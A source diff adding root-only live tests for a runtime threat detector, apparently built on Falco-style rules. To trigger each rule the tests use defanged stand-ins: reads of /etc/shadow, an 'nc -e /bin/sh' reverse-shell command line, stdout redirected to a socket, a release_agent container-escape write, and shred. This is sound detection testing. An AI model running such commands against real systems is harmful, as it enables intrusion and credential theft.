@@ -826,6 +826,216 @@ fn credential_searches_and_traversal_read() {
     );
 }
 
+/// A "container" for the stable rules' `container` macro: a cgroup v2 named as
+/// docker names a container's (see [`container_cgroup`]; its tag must be
+/// hex digits), removed on drop. A script joins it with [`Ctr::enter`]. The
+/// stable rules' outputs carry no container id: their `container` macro
+/// firing is what shows the container was seen.
+struct Ctr {
+    cg: String,
+}
+
+impl Ctr {
+    fn new(tag: &str) -> Ctr {
+        if !is_root() {
+            panic!("live tests need root and a BPF-capable kernel");
+        }
+        let (_, cg) = container_cgroup(tag);
+        Ctr { cg }
+    }
+    /// Shell text moving the running shell (and so what it starts) into the container.
+    fn enter(&self) -> String {
+        format!("echo $$ > {}/cgroup.procs", self.cg)
+    }
+}
+
+impl Drop for Ctr {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir(&self.cg);
+    }
+}
+
+fn stable_alerts<'a>(r: &'a Run, rule: &str) -> Vec<&'a Json> {
+    r.alerts.iter().filter(|a| a["rule"] == rule).collect()
+}
+
+/// Read sensitive file trusted after startup: a server program (a shell copy
+/// named `nginx`) reads /etc/shadow itself more than 5 s after it started;
+/// the same read by a fresh `nginx` (the near miss) is not this rule's.
+fn read_sensitive_file_trusted_after_startup() {
+    let d = scratch();
+    let script = "cp /bin/sh ./nginx; ./nginx -c 'sleep 6; read x < /etc/shadow; true'; \
+                  ./nginx -c 'read x < /etc/shadow; true'";
+    let r = quell_run(d.path(), &[STABLE], script);
+    let a = stable_alerts(&r, "Read sensitive file trusted after startup");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "fd.name"), "/etc/shadow");
+    assert_eq!(f(a[0], "proc.name"), "nginx");
+}
+
+/// System user interactive: a system user's process (`daemon`) under an
+/// `sshd` ancestor (a shell copy so named); the same under a user that is no
+/// system user (uid 12345) is the near miss.
+fn system_user_interactive() {
+    let d = scratch();
+    let script = "cp /bin/sh ./sshd; ./sshd -c '\
+        setpriv --reuid=daemon --regid=daemon --clear-groups sh -c \"true; true\"; \
+        setpriv --reuid=12345 --regid=12345 --clear-groups sh -c \"true; true\"; true'";
+    let r = quell_run(d.path(), &[STABLE], script);
+    let a = stable_alerts(&r, "System user interactive");
+    assert!(!a.is_empty(), "{:?}\n{}", r.rules(), r.stderr);
+    for x in &a {
+        assert_eq!(f(x, "user.name"), "daemon", "{x}");
+    }
+}
+
+/// Terminal shell in container: in a container, a shell whose parent is the
+/// runtime (a shell copy named `runc`) with a terminal (`script` gives a
+/// pty); the same without a terminal (`setsid`: no controlling tty) is the
+/// near miss.
+fn terminal_shell_in_container() {
+    let c = Ctr::new("7e7711");
+    let d = scratch();
+    let script = format!(
+        "cp /bin/sh ./runc; {}; script -qec \"./runc -c 'sh -c true; true'\" /dev/null < /dev/null; \
+         setsid -w ./runc -c 'sh -c \"true; true\"; true'",
+        c.enter()
+    );
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(&r, "Terminal shell in container");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.name"), "sh");
+    assert_eq!(f(a[0], "proc.pname"), "runc");
+    assert_ne!(f(a[0], "proc.tty"), &Json::from(0));
+}
+
+/// Netcat Remote Code Execution in Container: `nc -e` in a container (a
+/// stand-in binary named `nc`: no netcat is installed, and the rule reads
+/// only the name and the command line); `nc -z` is the near miss.
+fn netcat_remote_code_execution_in_container() {
+    let c = Ctr::new("0cacce");
+    let d = scratch();
+    let script = format!(
+        "cp /bin/true ./nc; {}; ./nc -e /bin/sh 198.51.100.1 4444; ./nc -z 198.51.100.1 4444",
+        c.enter()
+    );
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(&r, "Netcat Remote Code Execution in Container");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.cmdline"), "nc -e /bin/sh 198.51.100.1 4444");
+}
+
+/// Packet socket created in container: an `AF_PACKET` socket in a container;
+/// the same socket on the host (before the shell joins the container) is the
+/// near miss.
+fn packet_socket_created_in_container() {
+    let c = Ctr::new("9acce7");
+    let d = scratch();
+    let sock = "perl -e 'socket(my $s, 17, 3, 0) or die \"socket: $!\"'";
+    let script = format!("{sock}; {}; {sock}", c.enter());
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(&r, "Packet socket created in container");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.name"), "perl");
+}
+
+/// Redirect STDOUT/STDIN to Network Connection in Container: stdout
+/// duplicated from a connected UDP socket (`dup2(sock, 1)`, as a reverse
+/// shell does); stdout duplicated from a regular file is the near miss.
+fn redirect_stdout_to_network_connection_in_container() {
+    let c = Ctr::new("5d0d0e");
+    let d = scratch();
+    let script = format!(
+        "{}; perl -e 'use Socket; use POSIX; socket(my $s, PF_INET, SOCK_DGRAM, 0) or die; \
+         connect($s, pack_sockaddr_in(9, inet_aton(\"127.0.0.1\"))) or die \"connect: $!\"; \
+         defined POSIX::dup2(fileno($s), 1) or die \"dup2: $!\"'; \
+         perl -e 'use POSIX; open(my $f, \">\", \"out.txt\") or die; defined POSIX::dup2(fileno($f), 1) or die'",
+        c.enter()
+    );
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(
+        &r,
+        "Redirect STDOUT/STDIN to Network Connection in Container",
+    );
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.name"), "perl");
+}
+
+/// Detect release_agent File Container Escapes: root in a container opens a
+/// file named `release_agent` for writing (a scratch file: the rule reads
+/// the name, not whether it is a cgroup v1 control file); reading it is the
+/// near miss.
+fn release_agent_file_container_escape() {
+    let c = Ctr::new("4e1ea5");
+    let d = scratch();
+    let script = format!(
+        "{}; echo /x > ./release_agent; cat ./release_agent > /dev/null",
+        c.enter()
+    );
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(&r, "Detect release_agent File Container Escapes");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(
+        f(a[0], "fd.name"),
+        &Json::from(format!("{}/release_agent", d.path().display()))
+    );
+}
+
+/// Remove Bulk Data from Disk: `shred` of a scratch file; `rm` is the near miss.
+fn remove_bulk_data_from_disk() {
+    let d = scratch();
+    let script = "head -c 4096 /dev/zero > a.bin; cp a.bin b.bin; shred -u a.bin; rm b.bin";
+    let r = quell_run(d.path(), &[STABLE], script);
+    let a = stable_alerts(&r, "Remove Bulk Data from Disk");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.name"), "shred");
+    assert!(!d.path().join("a.bin").exists());
+}
+
+/// Create Hardlink Over Sensitive Files: a hard link to /etc/shadow (in the
+/// scratch directory, on the same filesystem, removed at once); a link to
+/// /etc/hostname is the near miss.
+fn create_hardlink_over_sensitive_files() {
+    let d = scratch();
+    let script = "ln /etc/shadow ./s.lnk && rm ./s.lnk; ln /etc/hostname ./h.lnk && rm ./h.lnk";
+    let r = quell_run(d.path(), &[STABLE], script);
+    let a = stable_alerts(&r, "Create Hardlink Over Sensitive Files");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "evt.arg.oldpath"), "/etc/shadow");
+    assert_eq!(f(a[0], "proc.name"), "ln");
+}
+
+/// PTRACE anti-debug attempt: `ptrace(PTRACE_TRACEME)`; a `PTRACE_PEEKDATA`
+/// is the near miss.
+fn ptrace_anti_debug_attempt() {
+    let d = scratch();
+    let script = "perl -e 'syscall(101, 0, 0, 0, 0)'; perl -e 'syscall(101, 2, 999999, 0, 0)'";
+    let r = quell_run(d.path(), &[STABLE], script);
+    let a = stable_alerts(&r, "PTRACE anti-debug attempt");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.name"), "perl");
+}
+
+/// Disallowed SSH Connection Non Standard Port: `ssh -p 443` to a public
+/// (TEST-NET-2) address, in a network namespace of the test's own where
+/// that address range is local (the connection is refused at once; the
+/// non-blocking connect gives `EINPROGRESS`, which the `outbound` macro
+/// accepts); `ssh -p 2222` is the near miss.
+fn disallowed_ssh_connection_non_standard_port() {
+    let d = scratch();
+    let ssh = "ssh -F /dev/null -o ConnectTimeout=2 -o BatchMode=yes -o StrictHostKeyChecking=no \
+               -o UserKnownHostsFile=/dev/null";
+    let script = format!(
+        "exec unshare --net sh -c 'ip link set lo up && ip addr add 198.51.100.1/24 dev lo && \
+         {{ {ssh} -p 443 root@198.51.100.7 true; {ssh} -p 2222 root@198.51.100.7 true; true; }}'"
+    );
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(&r, "Disallowed SSH Connection Non Standard Port");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "fd.rport"), 443);
+    assert_eq!(f(a[0], "proc.name"), "ssh");
+}
+
 /// The test harness (libtest-mimic): a live test that cannot run here (not
 /// root, no kernel BTF) is reported as ignored, never as passed. With
 /// `QUELL_LIVE_TESTS=1` (CI, as root) none is ignored: one that cannot run
@@ -932,6 +1142,48 @@ fn main() {
         .with_ignored_flag(ignore),
         Trial::test("start_up_names_the_rules_that_can_never_fire_live", || {
             run(start_up_names_the_rules_that_can_never_fire_live)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("read_sensitive_file_trusted_after_startup", || {
+            run(read_sensitive_file_trusted_after_startup)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("system_user_interactive", || run(system_user_interactive))
+            .with_ignored_flag(ignore),
+        Trial::test("terminal_shell_in_container", || {
+            run(terminal_shell_in_container)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("netcat_remote_code_execution_in_container", || {
+            run(netcat_remote_code_execution_in_container)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("packet_socket_created_in_container", || {
+            run(packet_socket_created_in_container)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("redirect_stdout_to_network_connection_in_container", || {
+            run(redirect_stdout_to_network_connection_in_container)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("release_agent_file_container_escape", || {
+            run(release_agent_file_container_escape)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("remove_bulk_data_from_disk", || {
+            run(remove_bulk_data_from_disk)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("create_hardlink_over_sensitive_files", || {
+            run(create_hardlink_over_sensitive_files)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("ptrace_anti_debug_attempt", || {
+            run(ptrace_anti_debug_attempt)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("disallowed_ssh_connection_non_standard_port", || {
+            run(disallowed_ssh_connection_non_standard_port)
         })
         .with_ignored_flag(ignore),
     ];
